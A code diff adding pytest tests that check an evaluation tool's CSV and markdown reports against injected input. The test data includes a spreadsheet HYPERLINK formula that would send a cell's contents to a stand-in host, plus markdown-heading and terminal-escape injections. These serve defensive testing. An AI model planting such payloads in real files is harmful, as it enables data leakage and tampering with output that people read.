@@ -412,3 +412,57 @@ def test_a_point_record_of_another_type_is_no_record_and_nothing_is_written_outs
     err = capsys.readouterr().err.strip().splitlines()
     assert len(err) == 1 and err[0].startswith("evalkit.report: error: ") and f"({field}=" in err[0], err
     assert "\x1b" not in err[0] and sorted(tmp_path.rglob("*")) == before
+
+
+def test_report_csv_carries_no_spreadsheet_formula_from_a_run(sweep, tmp_path):
+    """A received point's run names a task, a metric and a filter as spreadsheet formulas (a sweep folder and its
+    runs may come from elsewhere): report.csv holds each as text, a leading ' before it, and no cell starts a
+    formula; numbers stay numbers."""
+    import csv
+    import shutil
+
+    run = tmp_path / "run"
+    shutil.copytree(sweep["runs"][0], run)
+    results = json.loads((run / "results.json").read_text())
+    results["results"] = {"=HYPERLINK(\"http://x/?\"&A1)": {"alias": "t", "+acc,-none": 0.5, "@acc_stderr,-none": 0.1}}
+    (run / "results.json").write_text(json.dumps(results))
+    folder = tmp_path / "sweep"
+    for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
+        write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
+    write_report(folder, reference=0)
+    with open(folder / "report.csv", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert "'=HYPERLINK(\"http://x/?\"&A1)" in cells and "'+acc" in cells and "'-none" in cells, cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))
+                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).replace("e", "").isdigit())]
+
+
+def test_a_name_that_reads_as_mathtext_is_drawn_as_written(sweep, tmp_path):
+    """A received run's task name holds "$x^$" (matplotlib's mathtext, unparsable): the sweep report is written,
+    its plot drawn with the name as text."""
+    import shutil
+
+    run = tmp_path / "run"
+    shutil.copytree(sweep["runs"][0], run)
+    results = json.loads((run / "results.json").read_text())
+    results["results"] = {"$x^$ \\frac{": {"alias": "t", "acc,none": 0.5, "acc_stderr,none": 0.1}}
+    (run / "results.json").write_text(json.dumps(results))
+    folder = tmp_path / "sweep"
+    for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
+        write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
+    written = {p.name for p in write_report(folder, reference=0)}
+    assert {"report.csv", "report.md", "report.html", "scores.png"} <= written
+    assert "$x^$ \\frac{" in pd.read_csv(folder / "report.csv").task.tolist()
+
+
+def test_a_newline_in_a_received_point_record_starts_no_line(sweep, tmp_path):
+    """A received point.json whose error and override hold a newline and an escape sequence: report.md shows them
+    escaped (\\x0a, \\x1b) inside their own line, never as a heading of their own."""
+    folder = tmp_path / "sweep"
+    write_point(folder / "0", replace(record(0, "ok", sweep["runs"][0]), overrides=["seed=0"]))
+    write_point(folder / "1", replace(record(1, "failed", error="boom\n# Injected heading\x1b]0;t\x07"),
+                                      overrides=["seed=1\n## Injected override"]))
+    write_report(folder, reference=0)
+    md = (folder / "report.md").read_text()
+    assert not [line for line in md.splitlines() if line.startswith(("# Injected", "## Injected"))], md
+    assert "boom\\x0a# Injected heading\\x1b]0;t\\x07" in md and "\x1b" not in md
